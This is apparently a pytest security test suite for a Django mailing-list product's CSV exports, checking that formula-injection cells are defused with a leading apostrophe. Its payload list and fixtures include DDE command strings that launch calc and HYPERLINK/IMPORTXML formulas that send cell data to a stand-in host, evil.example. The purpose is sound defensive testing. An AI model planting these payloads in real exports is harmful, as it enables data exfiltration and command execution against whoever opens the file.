"""CSV injection: every CSV the product hands out (an import's error report, and each tab of the
feedback page) goes through lists.exports.csv_lines, which defuses any cell a spreadsheet would
run as a formula (OWASP: a leading = + - @, tab or carriage return) with a leading apostrophe,
whoever wrote the cell: the sender, a recipient's complaint, an ESP's bounce, a moderator.
"""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from campaigns.models import Delivery, DeliveryStatus
from complaints.models import AbuseReport, AbuseStatus, FeedbackEvent, FeedbackKind
from lists.exports import csv_lines, spreadsheet_safe
from lists.models import ImportStatus
from lists.services.imports import import_run
from tests.campaigns.factories import CampaignFactory
from tests.lists.factories import MailingListFactory, SubscriberFactory
from tests.security.conftest import FUZZ

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")',
    "=1+1",
]


def parse(lines) -> list[list[str]]:
    text = "".join(lines)
    assert text.startswith("\ufeff")  # Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def assert_defused(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


@FUZZ
@given(
    rows=st.lists(
        st.lists(
            st.one_of(
                st.text(max_size=30),
                st.sampled_from(FORMULAS),
                st.integers(),
                st.floats(allow_nan=False),
                st.none(),
            ),
            max_size=6,
        ),
        max_size=8,
    )
)
def test_no_written_cell_starts_a_formula_and_every_value_survives(rows):
    written = parse(csv_lines(["a", "b"], rows))

    assert written[0] == ["a", "b"]
    assert_defused(written[1:])
    for original, cells in zip(rows, written[1:], strict=True):
        for value, cell in zip(original, cells, strict=True):
            text = "" if value is None else str(value)
            # Exactly the value, or the value behind one apostrophe; "\r" in a cell comes back
            # as written only because the writer quotes the cell.
            assert cell in (text, "'" + text)
            assert (cell != text) == text.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("formula", FORMULAS)
def test_spreadsheet_safe_defuses_each_formula(formula):
    assert spreadsheet_safe(formula) == "'" + formula


@pytest.mark.parametrize("value", ["ann@example.org", "Ann Lee", "", 0.25, 12, " =not a formula"])
def test_ordinary_cells_are_left_alone(value):
    assert spreadsheet_safe(value) == str(value)


# --- the exports themselves ----------------------------------------------------------------------


@pytest.fixture
def mailing_list(user):
    return MailingListFactory(account=user.account, name='=HYPERLINK("http://evil.example")')


def test_the_import_error_report_defuses_the_cells_it_echoes_from_the_file(
    token_client, mailing_list
):
    quoted = [formula.replace('"', '""') for formula in FORMULAS if "\r" not in formula]
    lines = ["email,name"] + [f'"{formula}",Mallory' for formula in quoted]
    response = token_client.post(
        f"/api/v1/lists/{mailing_list.pk}/imports/",
        {
            "file": SimpleUploadedFile("hostile.csv", "\n".join(lines).encode()),
            "consent_source": "paper_form",
            "proof": "Signed forms, box 4 at the office",
            "column_map": '{"email": 0, "name": 1}',
        },
        format="multipart",
    )
    assert response.status_code == 202, response.json()
    job_id = response.json()["id"]
    assert import_run(import_id=job_id) == ImportStatus.DONE

    report = token_client.get(f"/api/v1/imports/{job_id}/errors.csv")
    rows = parse(b"".join(report.streaming_content).decode())

    assert rows[0] == ["row", "email", "reason", "outcome"]
    assert len(rows) == len(lines)  # every formula row was refused as an address and reported
    assert_defused(rows)
    echoed = {row[1] for row in rows[1:]}
    assert "'=cmd|' /C calc'!A0" in echoed
    assert "'\t=1+1" in echoed or "'=1+1" in echoed


@pytest.fixture
def hostile_feedback(user, mailing_list):
    """Feedback of every tab, each cell someone else controls holding a formula."""
    account = user.account
    subscriber = SubscriberFactory(mailing_list=mailing_list, email="ann@example.org")
    campaign = CampaignFactory(
        account=account, lists=[mailing_list], name="+SUM(1+1)*cmd|' /C calc'!A0", status="sent"
    )
    delivery = Delivery.objects.create(
        campaign=campaign,
        subscriber=subscriber,
        provider="other",
        status=DeliveryStatus.SENT,
        sent_at=timezone.now(),
    )
    now = timezone.now()
    for number, kind in enumerate(
        [
            FeedbackKind.UNSUBSCRIBED,
            FeedbackKind.COMPLAINED,
            FeedbackKind.HARD_BOUNCE,
            FeedbackKind.SOFT_BOUNCE,
        ]
    ):
        FeedbackEvent.objects.create(
            source="report_page",
            event_id=f"hostile-{number}",
            kind=kind,
            account=account,
            campaign=campaign,
            delivery=delivery,
            recipient='=HYPERLINK("http://evil.example")',
            code="-2+3+cmd|' /C calc'!A0",
            detail="@SUM(1+1)*cmd|' /C calc'!A0",
            comment="\t=1+1",
            occurred_at=now,
            suppressed_at=now,
        )
    AbuseReport.objects.create(
        reporter_email="reporter@example.net",
        message_text="=1+1",
        account=account,
        campaign=campaign,
        status=AbuseStatus.UPHELD,
        resolution_note="=cmd|' /C calc'!A0",
        resolved_at=now,
    )


@pytest.mark.parametrize("tab", ["unsubscribes", "complaints", "bounces", "abuse"])
def test_every_feedback_export_defuses_every_cell(client, user, hostile_feedback, tab):
    client.force_login(user)
    response = client.get(reverse("feedback"), {"tab": tab, "format": "csv"})

    assert response["Content-Type"] == "text/csv"
    rows = parse(b"".join(response.streaming_content).decode())
    assert len(rows) >= 2
    assert_defused(rows)
    # The hostile cells are there, defused, not dropped.
    assert any(cell.startswith("'") for row in rows[1:] for cell in row)
